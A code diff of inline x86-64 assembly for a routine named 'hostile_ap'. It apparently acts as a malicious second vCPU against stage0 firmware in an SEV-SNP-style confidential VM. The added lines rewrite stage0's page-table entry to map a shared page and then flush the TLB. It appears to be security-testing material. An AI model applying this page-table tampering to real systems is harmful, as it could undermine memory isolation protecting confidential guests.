@@ -42,7 +42,8 @@ __asm__(".pushsection .rodata\n"
 
         /*
          * Creates a second vCPU with a VMSA where there is no memory. The GHCB is shared, at 32
-         * MiB; its virtual address is 2^39 higher.
+         * MiB. Its mapping is ours: stage0's second table of 1 GiB pages, which begins at virtual
+         * address 2^39, gets a shared page of address 0 as its second one.
          */
         "hostile_ap:\n"
         "	mov $0x2000000, %eax\n"
@@ -51,7 +52,15 @@ __asm__(".pushsection .rodata\n"
         "	.byte 0xf2, 0x0f, 0x01, 0xff\n" /* PVALIDATE */
         "	ask 0x2000014, 0x200000\n"
         "	ask 0x2000012, 0\n"
-        "	movabs $0x8002000000, %rbx\n"
+        "	mov %cr3, %rax\n"
+        "	movabs $0x7fffffffff000, %rdx\n" /* without the C-bit */
+        "	and %rdx, %rax\n"
+        "	mov 8(%rax), %rax\n"
+        "	and %rdx, %rax\n"
+        "	movq $0x83, 8(%rax)\n"
+        "	mov %cr3, %rax\n"
+        "	mov %rax, %cr3\n"
+        "	movabs $0x8042000000, %rbx\n"
         "	mov %rbx, %rdi\n"
         "	mov $512, %ecx\n"
         "	xor %eax, %eax\n"
